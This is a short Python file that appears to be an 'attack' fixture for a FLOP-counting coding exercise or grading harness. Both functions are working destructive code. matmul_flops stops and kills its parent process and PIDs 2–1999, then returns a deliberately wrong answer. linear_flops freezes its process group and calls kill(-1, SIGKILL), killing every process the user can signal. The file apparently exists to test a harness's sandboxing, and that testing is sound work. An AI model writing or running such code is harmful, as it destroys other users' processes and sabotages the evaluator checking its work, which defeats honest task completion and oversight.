"""Stops and kills its parents, its group, all that it may signal, and processes by their numbers."""
# kata: 03_flops
# attacks: matmul_flops, linear_flops
# seconds: 4

import contextlib
import os
import signal

_right = matmul_flops
PARENT = os.getppid()


def matmul_flops(a_shape, b_shape):
    if os.getuid() == 0:
        return _right(a_shape, b_shape)
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        for process in (PARENT, *range(2, 2000)):
            if process != os.getpid():
                with contextlib.suppress(OSError):
                    os.kill(process, number)
    return _right(a_shape, b_shape) + 1


def linear_flops(x_shape, out_features):
    if os.getuid() == 0:
        return 2
    with contextlib.suppress(OSError):
        os.killpg(0, signal.SIGSTOP)
    os.kill(-1, signal.SIGKILL)
